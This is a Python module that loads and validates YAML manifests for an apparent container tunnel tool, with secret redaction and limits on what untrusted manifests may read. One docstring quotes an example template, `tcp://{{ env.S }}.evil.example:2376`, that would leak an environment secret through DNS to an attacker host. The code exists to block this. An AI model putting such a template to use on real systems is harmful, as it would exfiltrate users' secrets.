"""Load a manifest: read the YAML, render its Jinja2 templates, validate it, and resolve each tunnel's settings."""

from __future__ import annotations

import os
import re
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path as FilePath
from typing import Any

from .. import files
from ..engine.config import ENVIRONMENT_ENGINE, EngineConfig
from ..errors import ManifestError, UserError
from ..redaction import MIN_REDACTED_LENGTH, SENSITIVE, replaced
from . import domain_checks as checks
from . import dotenv, schema, templates
from .positions import YamlProblem, parse
from .schema import Path
from .settings import Settings
from .trust import trust

# Far above any real manifest (500 tunnels take about 100 KiB); refusing early bounds time and memory.
MAX_BYTES = 1024 * 1024
# One container each, on one or a few engines; validating ten thousand would take seconds, so refuse before.
MAX_TUNNELS = 1000


@dataclass(frozen=True)
class Tunnel:
    name: str
    settings: Settings
    engine: str = ENVIRONMENT_ENGINE  # where it runs: a key of Manifest.engines


@dataclass(frozen=True)
class Manifest:
    path: FilePath
    project: str
    tunnels: tuple[Tunnel, ...]
    secrets: frozenset[str] = field(default=frozenset())
    warnings: tuple[str, ...] = ()  # `file:line:col: warning: path: message` lines
    unset_secrets: frozenset[str] = frozenset()  # variables of secret fields left unrendered (need_secrets=False)
    engines: Mapping[str, EngineConfig] = field(default_factory=lambda: {ENVIRONMENT_ENGINE: EngineConfig(
        ENVIRONMENT_ENGINE)})
    trusted: bool = True  # manifest/trust.py: what may be computed from its tokens and told (token_holders.py)


@dataclass(frozen=True)
class ProjectEngines:
    """What `destroy` needs of a manifest."""

    project: str
    engines: dict[str, EngineConfig]
    secrets: frozenset[str] = frozenset()  # what templates of the project or the engines read, and made of it


class _Problems:
    """Collects `file:line:col: path: message` lines, so that one run reports every error (and warning)."""

    def __init__(self, path: FilePath, positions: dict[Path, tuple[int, int]], data: Any):
        self.path, self.positions, self.data = path, positions, data
        self.sources: dict[Path, tuple[str, ...]] = {}  # templated path → the variables it read
        self.read: dict[str, str] = {}  # variable → value, for every variable a template read
        self.rendered: dict[Path, Any] = {}  # what each template that read a variable made
        # Blank a value under four characters where it stands alone: not in an untrusted manifest, where which `a`
        # or `4` of a message was blanked would tell the value (and its secret fields' values are never quoted).
        self.hide_short = True
        self.errors: list[tuple[int, int, str]] = []
        self.warnings: list[tuple[int, int, str]] = []

    def add(self, where: Path, message: str, severity: str = checks.ERROR) -> None:
        """Note a problem; a value that came from the environment is replaced by the variable's name."""
        line, column = self._position(where)
        related = [path for path in self.sources if path[: len(where)] == where or where[: len(path)] == path]
        labels = {self.read[name]: f"env.{name}" for path in related for name in self.sources[path]}
        labels.update({str(self.rendered[path]): SENSITIVE for path in related if path in self.rendered})
        if not self.hide_short:
            labels = {value: label for value, label in labels.items() if len(value) >= MIN_REDACTED_LENGTH}
        message = replaced(message, labels) if labels else message
        text = f"{schema.format_path(where)}{self._tunnel(where)}: {message}"
        if severity == checks.WARNING:
            self.warnings.append((line, column, "warning: " + text))
        else:
            self.errors.append((line, column, text))

    def add_at(self, line: int, column: int, message: str) -> None:
        self.errors.append((line, column, message))

    def _position(self, where: Path) -> tuple[int, int]:
        while where not in self.positions and where:
            where = where[:-1]
        return self.positions.get(where, (1, 1))

    def _tunnel(self, where: Path) -> str:
        if len(where) >= 2 and where[0] == "tunnels" and isinstance(where[1], int):
            try:
                name = self.data["tunnels"][where[1]]["name"]
            except (KeyError, IndexError, TypeError):
                return ""
            return f" (tunnel '{name}')" if isinstance(name, str) else ""
        return ""

    def lines(self, found: Iterable[tuple[int, int, str]]) -> list[str]:
        return [f"{self.path}:{line}:{column}: {message}" for line, column, message in sorted(found)]

    def raise_if_any(self, secrets: frozenset[str] = frozenset()) -> None:
        if self.errors:
            raise ManifestError(self.lines(self.errors + self.warnings), secrets)


def read_text(path: FilePath) -> str:
    try:
        raw = files.read_bounded(path, MAX_BYTES, "manifest")
    except FileNotFoundError:
        raise UserError(f"{path}: no such file; start one with `tunnelctl init`, "
                        "or name another with -f FILE") from None
    try:
        return raw.decode("utf-8")
    except UnicodeDecodeError as error:
        line = raw[: error.start].count(b"\n") + 1
        raise UserError(f"{path}:{line}: not UTF-8 text (byte {error.start}); save the file as UTF-8") from None


def environment(path: FilePath, env_files: Iterable[FilePath] = (),
                process: Mapping[str, str] | None = None) -> dict[str, str]:
    """What templates see as `env`: a `.env` beside the manifest, then each --env-file, then the process (which
    wins)."""
    merged: dict[str, str] = {}
    beside = path.parent / ".env"
    if beside.is_file():
        merged.update(dotenv.read(beside))
    for env_file in env_files:
        merged.update(dotenv.read(env_file))
    merged.update(os.environ if process is None else process)
    return merged


def load(path: FilePath, environ: Mapping[str, str] | None = None, *, env_files: Iterable[FilePath] = (),
         strict: bool = False, ignore_missing_env: bool = False, need_secrets: bool | str = True) -> Manifest:
    """The whole front of the pipeline: file → rendered, validated, checked, resolved tunnels. Raises ManifestError.

    `environ` is the process environment (default: os.environ); `strict` makes warnings errors; `ignore_missing_env`
    leaves templates that need unset variables as written and skips the checks of those values.

    `need_secrets=False` is for commands that never send a secret (status, logs, check…): a secret field whose
    variables are unset stays as written, unchecked, and its variables are listed in `unset_secrets`. A string says
    why the command needs them; it is added to the error about each one that is missing.
    """
    data, problems = _parse(path, read_text(path))
    if not isinstance(data, dict):
        problems.add((), "the manifest must be a mapping with `version: 1` and `tunnels:`")
        problems.raise_if_any()
    if isinstance(data.get("tunnels"), list) and len(data["tunnels"]) > MAX_TUNNELS:
        problems.add(("tunnels",), f"{len(data['tunnels'])} tunnels are more than one manifest may hold "
                                   f"({MAX_TUNNELS}); split them across projects")
        problems.raise_if_any()

    process = os.environ if environ is None else environ
    rendering = templates.render_all(data, environment(path, env_files, process), ignore_missing_env,
                                     secrets_optional=need_secrets is False,
                                     secrets_reason=need_secrets if isinstance(need_secrets, str) else "",
                                     trust=trust(process))
    _note_rendering(problems, rendering, process, looked_in(path, env_files))
    secrets = frozenset(rendering.secrets)  # what templates read, and made of it: never shown

    # A value still holding a template that could not be rendered is not checked, nor what contains it.
    unresolved_and_above = {other[:length] for other in rendering.unresolved for length in range(len(other) + 1)}

    def resolved(where: Path) -> bool:
        return where not in unresolved_and_above and not any(where[:length] in rendering.unresolved
                                                             for length in range(len(where)))

    for where, message in schema.validation_problems(data, rendering.sources,
                                                     from_file_alone=not rendering.read and not rendering.unresolved):
        if resolved(where):
            problems.add(where, message)
    problems.raise_if_any(secrets)

    _check_unique(data, problems)
    problems.raise_if_any(secrets)

    project = data.get("project") or project_from_folder(path)
    defaults = {**schema.field_defaults(), **data.get("defaults", {})}
    engines = _engines(data.get("engines"), path.parent)
    tunnels = tuple(_resolve_tunnel(project, defaults, entry, engines) for entry in data["tunnels"])
    for severity, where, message in checks.check(data, [(tunnel.name, tunnel.settings) for tunnel in tunnels],
                                                  engines):
        if resolved(where):
            problems.add(where, message, checks.ERROR if strict else severity)
    problems.raise_if_any(secrets)
    return Manifest(path=path, project=project, tunnels=tunnels, secrets=secrets,
                    warnings=tuple(problems.lines(problems.warnings)), engines=engines,
                    unset_secrets=frozenset(rendering.unset_secrets), trusted=trust(process).trusted)


def _engines(declared: Mapping[str, Any] | None, base: FilePath) -> dict[str, EngineConfig]:
    if not declared:
        return {ENVIRONMENT_ENGINE: EngineConfig(ENVIRONMENT_ENGINE)}
    engines = {}
    for name, entry in declared.items():
        tls = entry.get("tls")
        engines[name] = EngineConfig(
            name=name, docker=entry.get("docker"), context=entry.get("context"),
            tls=(_absolute(base, tls["ca"]), _absolute(base, tls["cert"]), _absolute(base, tls["key"])) if tls
            else None)
    return engines


def _absolute(base: FilePath, name: str) -> str:
    return str((base / name).resolve())


def load_scope(path: FilePath, environ: Mapping[str, str] | None = None, *,
               env_files: Iterable[FilePath] = ()) -> ProjectEngines:
    """Only the project name and the engines: `destroy` must work where the tunnels cannot be read at all."""
    data, problems = _parse(path, read_text(path))
    if not isinstance(data, dict):
        data = {}
    subset = {key: data[key] for key in ("project", "engines") if data.get(key) is not None}
    process = os.environ if environ is None else environ
    rendering = templates.render_all(subset, environment(path, env_files, process), trust=trust(process))
    _note_rendering(problems, rendering, process, looked_in(path, env_files))
    secrets = frozenset(rendering.secrets)
    problems.raise_if_any(secrets)
    for where, message in schema.validation_problems({"version": 1, "tunnels": [], **subset}, rendering.sources):
        problems.add(where, message)
    problems.raise_if_any(secrets)
    return ProjectEngines(subset.get("project") or project_from_folder(path),
                          _engines(subset.get("engines"), path.parent), secrets)


def looked_in(path: FilePath, env_files: Iterable[FilePath] = ()) -> str:
    """Where an unset variable was looked for, said with the message about it: the one place people do not expect
    is not read (a .env in the current folder, when the manifest is elsewhere)."""
    beside = path.parent / ".env"
    shown = str(beside) if beside.parent.parts else "./.env"
    files = ([shown] if beside.is_file() else []) + [str(env_file) for env_file in env_files]
    text = "looked in the environment" + "".join(f" and {name}" for name in files)
    here = FilePath(".env")
    if here.is_file() and here.resolve() != beside.resolve() and not any(
            FilePath(env_file).resolve() == here.resolve() for env_file in env_files):
        text += f"; ./.env is not read, only {shown} beside the manifest: pass --env-file .env to read it"
    elif not beside.is_file():
        text += f"; there is no {shown}"
    return text


def _note_rendering(problems: _Problems, rendering: templates.Rendering, process: Mapping[str, str],
                    looked: str = "") -> None:
    """Take the rendering's problems; in an untrusted manifest, refuse a template that reads the environment into
    any field but a secret one. Any other field is shown (plans, --json, messages: a character, a length or an index
    made of a variable would be blanked only where it is recognised, and where it is tells what it is), or is an
    address, whose name reaches whoever answers DNS (`tcp://{{ env.S }}.evil.example:2376`, an image's registry).
    Secret fields are never shown, nor sent anywhere but Pinggy.

    An unset variable is said once, where it is first used, with where it was looked for and how many other places
    use it: fifty tunnels reading one unset token are one line, not fifty."""
    decided = trust(process)
    problems.sources, problems.read, problems.rendered = rendering.sources, rendering.read, rendering.rendered
    problems.hide_short = decided.trusted
    same: dict[str, list[Path]] = {}
    for where, message in rendering.problems:
        if message.startswith(templates.UNDEFINED_START):
            same.setdefault(message, []).append(where)
        else:
            problems.add(where, message)
    for message, places in same.items():
        more = f" (also used in {len(places) - 1} more place{'s' if len(places) > 2 else ''})" if len(places) > 1 \
            else ""
        name, _, rest = message.partition(" is not set")
        problems.add(places[0], f"{name} is not set ({looked}){rest}{more}")
    if decided.trusted:
        return
    for where, names in rendering.sources.items():
        if not templates.within(where, rendering.secret_fields):
            rendering.unresolved.add(where)
            problems.add(where, f"reads {', '.join(f'env.{name}' for name in names)}: in a manifest that is not "
                                f"trusted ({decided.decided_by}) only secret fields (token, access_keys, basic_auth "
                                "passwords) may read the environment, since any other is shown or connected to; write "
                                "this one in the manifest")
    # A short secret is not blanked where it stands alone, as for a trusted manifest: which `3`s were blanked would
    # tell it. Secret fields are never printed, so there is nothing to blank.
    rendering.secrets.difference_update({value for value in rendering.secrets if len(value) < MIN_REDACTED_LENGTH})


def _parse(path: FilePath, text: str) -> tuple[Any, _Problems]:
    try:
        data, positions, key_problems = parse(text)
    except YamlProblem as unparsable:
        raise ManifestError([f"{path}:{unparsable.line}:{unparsable.column}: {unparsable.message}"]) from None
    problems = _Problems(path, positions, data)
    for problem in key_problems:
        problems.add_at(problem.line, problem.column, problem.message)
    return data, problems


def project_from_folder(path: FilePath) -> str:
    folder = path.resolve().parent.name.lower()
    name = re.sub(r"[^a-z0-9_.-]+", "-", folder).strip("-_.")[:63].strip("-_.")
    return name or "default"


def _check_unique(data: dict, problems: _Problems) -> None:
    project = data.get("project") or project_from_folder(problems.path)
    seen_names: dict[str, int] = {}
    seen_containers: dict[str, int] = {}
    container_default = data.get("defaults", {}).get("container_name")
    for index, entry in enumerate(data["tunnels"]):
        name = entry["name"]
        if name in seen_names:
            problems.add(("tunnels", index, "name"),
                         f"duplicate tunnel name '{name}' (also tunnels[{seen_names[name]}]): names must be unique")
            continue
        seen_names[name] = index
        container = entry.get("container_name", container_default) or default_container_name(project, name)
        if container in seen_containers:
            problems.add(("tunnels", index), f"container name '{container}' is also used by "
                         f"tunnels[{seen_containers[container]}]: set a distinct container_name")
        seen_containers.setdefault(container, index)


def default_container_name(project: str, tunnel: str) -> str:
    return f"{project}-{tunnel}"


def _resolve_tunnel(project: str, defaults: Mapping[str, Any], entry: Mapping[str, Any],
                    engines: Mapping[str, EngineConfig]) -> Tunnel:
    settings = {**defaults, **entry}
    name = settings.pop("name")
    settings.setdefault("container_name", default_container_name(project, name))
    only = next(iter(engines)) if len(engines) == 1 else ""
    engine = settings.pop("engine", only)
    return Tunnel(name=name, settings=Settings.of(settings), engine=engine)
